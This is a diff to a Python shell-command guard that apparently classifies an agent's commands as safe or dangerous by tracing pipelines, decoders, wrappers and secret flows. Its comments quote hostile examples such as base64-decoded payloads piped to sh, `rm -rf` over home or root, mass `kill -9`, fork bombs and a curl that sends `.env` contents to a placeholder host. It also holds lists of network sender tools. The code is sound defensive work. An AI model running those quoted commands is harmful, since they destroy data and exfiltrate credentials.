@@ -12,15 +12,19 @@ earlier in the line, `$(..)`, backticks, `<(..)`, heredocs, here-strings, commen
 text into pipelines of simple commands, the way bash would split them. Each simple command
 is normalised (assignments, reserved words, `{ }` and wrappers such as sudo, env, nohup,
 timeout, nice, xargs, find -exec are peeled off; argv[0] becomes its lower-cased basename)
-and the rules in `agent.command_rules` look at its argv, never at the raw text, so
-`grep 'rm -rf' notes.txt` stays safe. Code that runs other code is followed: `sh -c`, `eval`,
+and the rules in `agent.command_rules` (plus, by category, `command_categories`,
+`command_rules_exec` — options, variables and wrappers that run code —, `command_rules_system` and
+`command_rules_remote`) look at its argv, never at the raw text, so `grep 'rm -rf' notes.txt`
+stays safe. Code that runs other code is followed: `sh -c`, `eval`,
 `ssh host cmd`, `python -c`/`perl -e`/`node -e` one-liners, heredocs fed to shells,
 interpreters and SQL clients, and literal payloads decoded on the way
 (`echo .. | base64 -d | sh`). A pipeline is followed as data: what `echo`, `printf`,
 `base64 -d`, `xxd -r -p`, `rev`, `tr`, `gunzip` or a downloader writes is known (or known to be
 downloaded / decoded) when it reaches a shell. Within one line the guard also remembers the
 working directory (`cd / && rm -rf *`), files downloaded (`curl -o x.sh ..; sh x.sh`) and
-files written with known text (`echo .. > x.sh; bash x.sh`). The worst part decides; every
+files written with known text (`echo .. > x.sh; bash x.sh`); it follows secrets read into a
+pipe or `$(..)` to a command that sends them, and what `find`, `ps` and `dirname` print
+(`find ~ | xargs rm -rf`, `ps -e | xargs kill -9`, `$(dirname $PWD)`). The worst part decides; every
 hit is a reason, "rule: offending command (via how it was reached)".
 
 Limits, all failing closed (dangerous): input over 100 000 characters, nesting deeper than
@@ -39,20 +43,20 @@ Package publishing (npm publish, twine upload, ...) is dangerous because it cann
 
 from __future__ import annotations
 
-import base64
-import binascii
-import bz2
 import fnmatch
-import lzma
 import re
 import shlex
-import zlib
 from dataclasses import dataclass, field
 from typing import Callable, Iterator
 
 from agent import command_rules as rules
 from agent.command_categories import framework_task, secret_label, sensitive_file
+from agent.command_code import fork_bombs, scan_code
+from agent.command_decode import DECODERS, b64, decode, decoding, printf, unescape
+from agent.command_flow import EVERY_PID, dirname, expand_braces, find_output, keeps_every_line, lists_every_process
 from agent.command_rules import DANGEROUS, HARDLINE, SAFE, Call, Hit
+from agent.command_rules_exec import EXTRA_WRAPPERS, assignments, wrapped, wrapper_hits
+from agent.command_sql import scan_sql
 
 __all__ = ["Verdict", "classify"]
 
@@ -99,6 +103,8 @@ class Stream:
     text: str | None = None
     origin: str | None = None  # None | "download" | "decode"
     desc: str = ""  # the producing commands, for reasons
+    secret: str | None = None  # what secret it carries (`cat ~/.ssh/id_rsa | ...`, `$(env)`)
+    every: bool = False  # every item: without text every process id (`ps -e`), with text every path below it
 
 
 @dataclass
@@ -117,25 +123,6 @@ class _Cmd:
 
 _OPAQUE_SETTERS = frozenset({"read", "mapfile", "readarray", "getopts"})
 _ASSIGN = re.compile(r"[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]]*\])?\+?=")
-_ANSI = {"a": "\a", "b": "\b", "e": "\x1b", "E": "\x1b", "f": "\f", "n": "\n", "r": "\r", "t": "\t", "v": "\v",
-         "\\": "\\", "'": "'", '"': '"', "?": "?"}
-_ESCAPE = re.compile(r"\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{1,4}|U[0-9a-fA-F]{1,8}|0?[0-7]{1,3}|c.|.)", re.S)
-
-
-def _unescape(s: str) -> str:
-    """Backslash escapes as in $'..', echo -e and printf."""
-    def one(m: re.Match) -> str:
-        e = m.group(1)
-        if e[0] in "xuU" and len(e) > 1:
-            return chr(min(int(e[1:], 16), 0x10FFFF))
-        if e[0] in "01234567":
-            return chr(int(e, 8) & 0xFF)
-        if e[0] == "c" and len(e) > 1:
-            return chr(ord(e[1]) & 31)
-        return _ANSI.get(e, "\\" + e)
-    return _ESCAPE.sub(one, s)
-
-
 def _match(s: str, i: int, open_: str = "(", close: str = ")") -> int:
     """Index of the bracket closing the one opened just before `i` (len(s) if unbalanced)."""
     depth, n = 1, len(s)
@@ -384,7 +371,7 @@ class _Lexer:
             j = i + 2
             while j < self.n and s[j] != "'":
                 j += 2 if s[j] == "\\" else 1
-            self.add(_unescape(s[i + 2:j]), quoted=True)
+            self.add(unescape(s[i + 2:j]), quoted=True)
             self.i = j + 1
         elif nx == '"' and not quoted:
             self.i = self.dquote(i + 2)
@@ -433,7 +420,9 @@ class _Lexer:
         if naming and (rest.startswith("[") or self.env.get("opaque " + name)
                        or val is None and not name.isupper() and name not in "@*"):
             self.cmd.hidden_name = self.cmd.hidden_name or literal
-        if rest.startswith((":-", "-", ":=", "=")):
+        if rest.startswith(("?", ":?")) or val is None and re.fullmatch(r"%%?/\*?/?", rest):  # ${HOME:?}, ${HOME%/*}
+            literal = ".." if name == "PWD" and "*" in rest else "${" + name + "}" + ("/.." if "*" in rest else "")
+        elif rest.startswith((":-", "-", ":=", "=")):
             val = val or rest.lstrip(":")[1:]
         elif rest.startswith((":+", "+")):
             val = rest.lstrip(":")[1:] if val else ""
@@ -448,6 +437,8 @@ class _Lexer:
             return
         if self.env.get("origin " + name) and self.at_command() and not self.assigning():
             self.cmd.exec_origin = self.env["origin " + name]
+        elif self.env.get("origin " + name):  # bash -c "$s" after s=$(curl ..): that text is run
+            self.cmd.subs.append(Stream(None, self.env["origin " + name], literal))
         if name == "@" and quoted and not self.assigning():  # "$@": one word per parameter
             for k, piece in enumerate(val.split()):
                 if k:
@@ -466,10 +457,10 @@ class _Lexer:
             self.cmd.origins[name] = st.origin
         elif st.origin and self.at_command():
             self.cmd.exec_origin = st.origin
-        if st.text is None:
+        if st.text is None and not st.every:
             self.add("$(…)", quoted=True)
         else:
-            self.insert(st.text.rstrip("\n"), quoted)
+            self.insert(st.text.rstrip("\n") if st.text is not None else EVERY_PID, quoted)
 
     def operator(self, c: str) -> None:
         s, i = self.s, self.i
@@ -549,15 +540,17 @@ class _Lexer:
 
 SHELLS = frozenset("sh bash zsh dash ksh mksh ash fish csh tcsh rbash yash".split())
 INTERPRETERS = {"perl": "perl", "perl5": "perl", "ruby": "ruby", "node": "node", "nodejs": "node", "bun": "node",
-                "php": "php", "lua": "lua", "luajit": "lua", "osascript": "applescript", "awk": "awk",
-                "gawk": "awk", "mawk": "awk", "nawk": "awk"}
+                "php": "php", "lua": "lua", "luajit": "lua", "osascript": "applescript", "awk": "awk", "gawk": "awk",
+                "mawk": "awk", "nawk": "awk", "rscript": "r", "tclsh": "tcl", "wish": "tcl", "expect": "tcl"}
 # lang: (letters giving code, long names giving code, short options taking a value, "run a module" flag)
 _INTERP_OPTS = {"python": ("c", (), "cmWXQ", "m"), "perl": ("eE", (), "eEIMmlxC", ""), "ruby": ("e", (), "eIrECx", ""),
                 "node": ("ep", ("eval", "print"), "epr", ""), "php": ("r", (), "rdcfzBERFt", ""),
-                "lua": ("e", (), "el", ""), "applescript": ("e", (), "el", ""), "awk": ("", (), "fvF", "")}
+                "lua": ("e", (), "el", ""), "applescript": ("e", (), "el", ""), "awk": ("", (), "fvF", ""),
+                "r": ("e", (), "e", ""), "tcl": ("c", (), "cf", "")}
 DOWNLOADERS = frozenset("curl wget fetch aria2c http https xh nc ncat netcat socat telnet".split())
 NET_TOOLS = frozenset("nc ncat netcat socat telnet".split())
-SENDERS = NET_TOOLS | frozenset("curl wget http https xh ssh scp sftp ftp rsync mail mailx sendmail mutt".split())
+SENDERS = NET_TOOLS | frozenset("curl wget http https xh ssh scp sftp ftp rsync mail mailx sendmail mutt dig host "
+                                 "nslookup drill ping".split())
 _DETACHING = frozenset({"nohup", "setsid", "systemd-run", "daemonize", "start-stop-daemon"})
 _ENV_DUMPS = frozenset({"env", "printenv", "set", "declare", "export", "history", "compgen"})
 
@@ -583,7 +576,6 @@ def _endless(cmd: "_Cmd") -> bool:
     sources = {"/dev/zero", "/dev/urandom", "/dev/random"}
     return bool(words) and (words[0] == "yes" or words[0] in ("cat", "tr", "pv") and (
         bool(sources & set(words[1:])) or any(op == "<" and t in sources for op, t in cmd.redirs)))
-DECODERS = frozenset("base64 base32 basenc gbase64 openssl xxd rev tr gunzip zcat gzip bunzip2 bzip2 bzcat xz xzcat unxz".split())
 _RESERVED = frozenset("{ } ! then do else elif if while until time fi done esac coproc".split())
 # wrappers that run the rest of the line: (short options taking a value, long ones, positionals to skip)
 _WRAPPERS = {
@@ -601,7 +593,7 @@ _WRAPPERS = {
         "command", "group", "shell"), 0), "runuser": ("cugGs", ("command", "user", "group", "shell"), 0),
     "flock": ("cwE", ("command", "timeout", "conflict-exit-code"), 1), "watch": ("ndgq", ("interval",), 0),
     "systemd-run": ("upEMHs", ("unit", "property", "setenv", "machine", "host", "slice", "uid", "gid"), 0),
-    "nix-shell": ("pAI", ("run", "command", "packages", "attr"), 0), "sg": ("c", (), 1),
+    "nix-shell": ("pAI", ("run", "command", "packages", "attr"), 0), "sg": ("c", (), 1), **EXTRA_WRAPPERS,
 }
 _RUNNERS = {"poetry": "run", "pipenv": "run", "pdm": "run", "uv": "run", "hatch": "run", "rye": "run",
             "bundle": "exec", "conda": "run", "mamba": "run", "micromamba": "run", "npm": "exec", "pnpm": "exec"}
@@ -623,89 +615,8 @@ def _name(word: str) -> str:
         stripped = re.sub(r"\$\{[^}]*\}|\$[A-Za-z_]\w*", "", base)
         if stripped in KNOWN:
             return stripped
-    m = re.fullmatch(r"(python|pypy)[\d.]*(?:-\w+)?", base)
-    return "python" if m else base
-
-
-def _b2s(b: bytes) -> str:
-    try:
-        return b.decode("utf-8")
-    except UnicodeDecodeError:
-        return b.decode("latin-1")
-
-
-def _s2b(s: str) -> bytes:
-    try:
-        return s.encode("latin-1")
-    except UnicodeEncodeError:
-        return s.encode("utf-8", "replace")
-
-
-def b64(text: str) -> str | None:
-    t = re.sub(r"\s+", "", text)
-    for fn in (base64.b64decode, base64.urlsafe_b64decode):
-        try:
-            return _b2s(fn(t + "=" * (-len(t) % 4)))
-        except (binascii.Error, ValueError):
-            continue
-    return None
-
-
-def _tr_set(spec: str) -> str:
-    """A tr(1) character set with ranges (a-z) expanded; huge ranges are left alone."""
-    return re.sub(r"(.)-(.)", lambda m: "".join(map(chr, range(ord(m.group(1)), ord(m.group(2)) + 1)))
-                  if 0 <= ord(m.group(2)) - ord(m.group(1)) < 512 else m.group(), _unescape(spec))
-
-
-def _decode(name: str, args: list[str], text: str) -> str | None:
-    """Output of a decoding filter, when it can be computed; raises nothing."""
-    try:
-        o = rules.parse(args)
-        if name in ("base64", "gbase64", "basenc") and o.has("d", "D", "decode"):
-            return b64(text) if name != "basenc" or o.has("base64") else None
-        if name == "base32" and o.has("d", "decode"):
-            return _b2s(base64.b32decode(re.sub(r"\s+", "", text)))
-        if name == "openssl" and ("base64" in args or "-a" in args or "-base64" in args) and "-d" in args:
-            return b64(text)
-        if name == "xxd" and "-r" in args:
-            return _b2s(bytes.fromhex(re.sub(r"\s+", "", text))) if any(a.startswith("-p") for a in args) else None
-        if name == "rev":
-            return "\n".join(line[::-1] for line in text.split("\n"))
-        if name == "tr" and len(o.pos) == 2 and not o.flags:
-            a, b = _tr_set(o.pos[0]), _tr_set(o.pos[1])
-            b = (b + b[-1:] * len(a))[:len(a)]
-            return text.translate(str.maketrans(a, b)) if a else None
-        for names, make in ((("gunzip", "zcat", "gzip"), lambda: zlib.decompressobj(47)),
-                            (("bunzip2", "bzip2", "bzcat"), bz2.BZ2Decompressor), (("xz", "xzcat", "unxz"), lzma.LZMADecompressor)):
-            if name in names and (name not in ("gzip", "bzip2", "xz") or o.has("d", "decompress")):
-                out = make().decompress(_s2b(text), MAX_WORK)  # bounded: no decompression bombs
-                return _b2s(out) if len(out) < MAX_WORK else None
-    except Exception:
-        return None
-    return None
-
-
-def _decoding(name: str, args: list[str]) -> bool:
-    """Whether a DECODERS command is decoding (not encoding) here."""
-    if name in ("rev", "tr", "gunzip", "zcat", "bunzip2", "bzcat", "xzcat", "unxz"):
-        return True
-    if name == "xxd":
-        return "-r" in args or "-revert" in args
-    if name == "openssl":
-        return "-d" in args and any(a in ("base64", "-a", "-base64", "enc") for a in args)
-    return rules.parse(args).has("d", "D", "decode", "decompress")
-
-
-def _printf(args: list[str]) -> str:
-    if not args:
-        return ""
-    fmt, rest, out = _unescape(args[0]), list(args[1:]), []
-    for _ in range(8):
-        out.append(re.sub(r"%[-+ #0-9.]*([sbdiqcxo%])", lambda m: "%" if m.group(1) == "%" else (
-            _unescape(rest.pop(0)) if m.group(1) == "b" else rest.pop(0)) if rest else "", fmt))
-        if not rest:
-            break
-    return "".join(out)
+    m = re.fullmatch(r"(?:python|pypy)[\d.]*(?:-\w+)?|(lua|perl|ruby|php|tclsh|wish)[\d.]+", base)
+    return (m.group(1) or "python") if m else base[:-4] if base.endswith(".exe") else base
 
 
 class _Analysis:
@@ -718,6 +629,7 @@ class _Analysis:
         self.cwd: str | None = None
         self.scripts: dict[str, str] = {}  # files this command line writes with known text
         self.links: dict[str, str] = {}  # ln -s ~ h: a name this line made for a directory → that directory
+        self.decoded: set[str] = set()  # files this command line writes with decoded output
 
     def hit(self, level: int, rule: str, part: str, via: tuple, cap: int) -> None:
         part = " ".join(part.split())
@@ -737,7 +649,7 @@ class _Analysis:
             elif f.kind == "code":
                 self.code(f.lang, str(f.payload), depth + 1, via + (f.via,), env, cap)
             elif f.kind == "sql":
-                self.take(rules.scan_sql(str(f.payload)), cmd, stdin, depth, via + (f.via,), env, cap)
+                self.take(scan_sql(str(f.payload)), cmd, stdin, depth, via + (f.via,), env, cap)
 
     def script(self, text: str, depth: int, via: tuple, env: dict, cap: int) -> Stream:
         if depth > MAX_DEPTH:
@@ -747,7 +659,7 @@ class _Analysis:
         if self.budget < 0:
             self.hit(DANGEROUS, "too complex to analyse", text, via, cap)
             return Stream()
-        for bomb in rules.fork_bombs(_mask_quotes(text)):
+        for bomb in fork_bombs(_mask_quotes(text)):
             self.hit(HARDLINE, "fork bomb", bomb, via, cap)
         lexer = _Lexer(text, env, lambda inner: self.script(inner, depth + 1, via + ("$(…)",), dict(env), cap))
         last = Stream()
@@ -761,7 +673,7 @@ class _Analysis:
             return
         self.budget -= len(code) + 1
         if self.budget >= 0:
-            self.take(rules.scan_code(lang, code, b64), None, Stream(), depth, via, env, cap)
+            self.take(scan_code(lang, code, b64), None, Stream(), depth, via, env, cap)
 
     def pipeline(self, cmds: list, depth: int, via: tuple, env: dict, cap: int) -> Stream:
         stream, names = Stream(), []
@@ -775,6 +687,8 @@ class _Analysis:
             for op, target in cmd.redirs:
                 if op in (">", ">>", ">|"):
                     base = target.rsplit("/", 1)[-1]
+                    if stream.origin == "decode":  # base64 -d > x.sh; ./x.sh
+                        self.decoded.add(base)
                     if stream.text is not None:  # echo 'rm -rf /' > x.sh; sh x.sh
                         self.scripts[base] = (self.scripts.get(base, "") if op == ">>" else "") + stream.text
                     else:
@@ -785,6 +699,9 @@ class _Analysis:
         if sources and senders and senders[-1] > sources[0]:
             self.hit(DANGEROUS, f"sends {_secret_source(cmds[sources[0]])} to the network", " | ".join(
                 show(c.words) for c in cmds), via, cap)
+        if _endless(cmds[0]) and any("xargs" in c.words[:2] for c in cmds[1:]) and any(  # yes | xargs -P0 ...
+                re.fullmatch(r"-P0|--max-procs=0", w) or w.rstrip().endswith("&") for c in cmds[1:] for w in c.words):
+            self.hit(HARDLINE, "fork bomb", " | ".join(show(c.words) for c in cmds), via, cap)
         if _endless(cmds[0]) and not any(n in ("head", "dd", "timeout") for n in names[1:]) and any(
                 op in (">", ">>") and not t.startswith("/dev/") for c in cmds for op, t in c.redirs):
             self.hit(DANGEROUS, "fills the disk (an endless stream into a file)", " | ".join(
@@ -793,7 +710,8 @@ class _Analysis:
         if shell_at and any(n in NET_TOOLS for n in names[shell_at[0] + 1:]):
             self.hit(DANGEROUS, "shell wired to the network (reverse shell)", " | ".join(
                 show(c.words) for c in cmds), via, cap)
-        return stream
+        return Stream(stream.text, stream.origin, stream.desc, _secret_source(cmds[sources[0]]), stream.every) \
+            if sources else stream
 
     def simple(self, cmd: _Cmd, stdin: Stream, depth: int, via: tuple, env: dict, cap: int) -> Stream:
         for op, target in cmd.redirs:
@@ -811,7 +729,11 @@ class _Analysis:
                      via, cap)
         if not cmd.words:
             return Stream(stdin.text, stdin.origin, stdin.desc) if cmd.stdin_set else Stream()
-        return self.run_argv(list(cmd.words), cmd, stdin, depth, via, env, cap)
+        out = self.run_argv(list(cmd.words), cmd, stdin, depth, via, env, cap)
+        secret = next((st.secret for st in cmd.subs if st.secret), None)
+        if secret and self.last_name in SENDERS:  # curl "https://x/?d=$(cat .env | base64)"
+            self.hit(DANGEROUS, f"sends {secret} to the network", show(cmd.words), via, cap)
+        return out
 
     def prefix(self, argv: list, env: dict) -> list:
         seen = set()
@@ -835,6 +757,8 @@ class _Analysis:
     def unwrap(self, name: str, argv: list) -> list | str | None:
         """The command a wrapper runs: an argv, a shell string, or None when it runs nothing."""
         short, long, skip = _WRAPPERS[name]
+        if (special := wrapped(name, argv)) is not True or name == "su" and {"--help", "-h", "-V"} & set(argv):
+            return special if special is not True else None
         if name in ("su", "flock", "sg"):  # options may follow the user / lock file
             for k, a in enumerate(argv[1:-1], start=1):
                 if a in ("-c", "--command"):
@@ -867,6 +791,9 @@ class _Analysis:
             return Stream()
         sudo = False
         for _ in range(32):
+            if argv and _ASSIGN.match(argv[0]):  # PAGER=…, LD_PRELOAD=…: variables that make programs run code
+                self.take(assignments([a for a in argv if _ASSIGN.match(a)], show(argv)), cmd, stdin, depth, via,
+                          env, cap)
             argv = self.prefix(argv, env)
             if not argv:
                 return Stream()
@@ -882,6 +809,7 @@ class _Analysis:
                 self.hit(DANGEROUS, f"starts something that outlives the command ({name})", show(argv), via, cap)
             elif name == "chroot":
                 self.hit(DANGEROUS, "runs a command in another root (chroot)", show(argv), via, cap)
+            self.take(wrapper_hits(name, argv), cmd, stdin, depth, via, env, cap)
             nxt = self.unwrap(name, argv)
             sudo = sudo or name in ("sudo", "doas", "pkexec", "su", "runuser")
             if isinstance(nxt, str):
@@ -934,21 +862,27 @@ class _Analysis:
             if stdin.origin:
                 self.hit(DANGEROUS, f"{_ORIGIN[stdin.origin]} fed to xargs", f"{stdin.desc} | {shown}", via, cap)
             sep = "\0" if o.has("0", "null") else (o.val("d", "delimiter") or None)
-            extra = [w for w in (stdin.text or "").split(_unescape(sep) if sep else None) if w.strip()][:64]
+            extra = [w for w in (stdin.text or "").split(unescape(sep) if sep else None) if w.strip()][:64]
             rep = o.val("I", "replace")
             sub = o.rest or ["echo"]
-            if rep and extra:
+            extra = [EVERY_PID] if stdin.every and stdin.text is None else extra
+            if rep and not extra and stdin.text is None:  # ls ~ | xargs -I{} rm -rf ~/{}: {} is any name
+                sub = [w.replace(rep, "*") for w in sub]
+            elif rep and extra:
                 sub = [w.replace(rep, extra[0]) for w in sub]
             elif extra:
                 sub = sub + extra
-            self.run_argv(sub, cmd, Stream(), depth + 1, via + ("xargs",), env, cap, bulk=stdin.text is None)
+            self.run_argv(sub, cmd, Stream(), depth + 1, via + ("xargs",), env, cap,
+                          bulk=stdin.text is None or stdin.every)
         elif name == "ssh":
+            self.take(rules.check(Call(name, list(args), shown)), cmd, stdin, depth, via, env, cap)
             o = rules.parse(args, "BbcDEeFIiJLlmOopQRSWw", stop=True)
             if len(o.rest) > 1:
                 self.script(" ".join(o.rest[1:]), depth + 1, via + (f"ssh {o.rest[0]}",), {}, cap)
             elif o.rest and stdin.text:
                 self.script(stdin.text, depth + 1, via + (f"stdin of ssh {o.rest[0]}",), {}, cap)
         elif name in ("at", "batch") and stdin.text:
+            self.hit(DANGEROUS, f"starts something that outlives the command ({name})", shown, via, cap)
             self.script(stdin.text, depth + 1, via + (name,), dict(env), cap)
         else:
             where = f" (in {self.cwd})" if self.cwd else ""
@@ -956,7 +890,7 @@ class _Analysis:
                 targets = [a for a in args if not a.startswith("-")]
                 if len(targets) == 2:
                     self.links[targets[1].rstrip("/")] = targets[0]
-            args = [self._through_links(a) for a in args]
+            args = expand_braces([self._through_links(a) for a in args])
             c = Call(name, list(args), shown + where, argv[0], bulk, stdin.text, self.cwd)
             self.take(rules.check(c), cmd, stdin, depth, via, env, cap)
         return self.stdout(name, args, stdin, shown, cmd)
@@ -969,8 +903,9 @@ class _Analysis:
     def file_exec(self, path: str, lang: str, shown: str, depth: int, via: tuple, env: dict, cap: int) -> None:
         """Running a file this same command line downloaded or wrote."""
         base = path.rsplit("/", 1)[-1]
-        if base in self.downloads:
-            self.hit(DANGEROUS, "download then execute", shown, via, cap)
+        if base in self.downloads or base in self.decoded:
+            self.hit(DANGEROUS, "download then execute" if base in self.downloads else "decoded payload executed",
+                     shown, via, cap)
         if base in self.scripts:
             if lang == "shell":
                 self.script(self.scripts[base], depth + 1, via + (f"script {base}",), dict(env), cap)
@@ -1044,15 +979,20 @@ class _Analysis:
             while args and re.fullmatch(r"-[neE]+", args[0]):
                 flags, args = flags + args[0], args[1:]
             text = " ".join(args)
-            return Stream(_unescape(text) if "e" in flags else text, None, desc)
+            return Stream(unescape(text) if "e" in flags else text, None, desc)
         if name == "printf":
-            return Stream(_printf(args), None, desc)
+            return Stream(printf(args), None, desc)
         if name in ("cat", "tee") and (name == "tee" or all(a == "-" or a.startswith("-") for a in args)):
             return Stream(stdin.text, stdin.origin, desc)
         if name in ("which", "type") and args:
             return Stream(args[-1].rsplit("/", 1)[-1], None, desc)
-        if name in DECODERS and _decoding(name, args):
-            text = _decode(name, args, stdin.text) if stdin.text is not None else None
+        if name in ("find", "dirname", "pwd") and (text := find_output(args) if name == "find" else
+                                                   dirname(args[0]) if name == "dirname" and args else "$PWD"):
+            return Stream(text, None, desc, every=name == "find")
+        if lists_every_process(name, args) or stdin.every and keeps_every_line(name, args):
+            return Stream(None, None, desc, every=True)
+        if name in DECODERS and decoding(name, args):
+            text = decode(name, args, stdin.text) if stdin.text is not None else None
             return Stream(text, stdin.origin or "decode", desc)
         if name in DOWNLOADERS:
             to_stdout, files = rules.download_info(name, args)
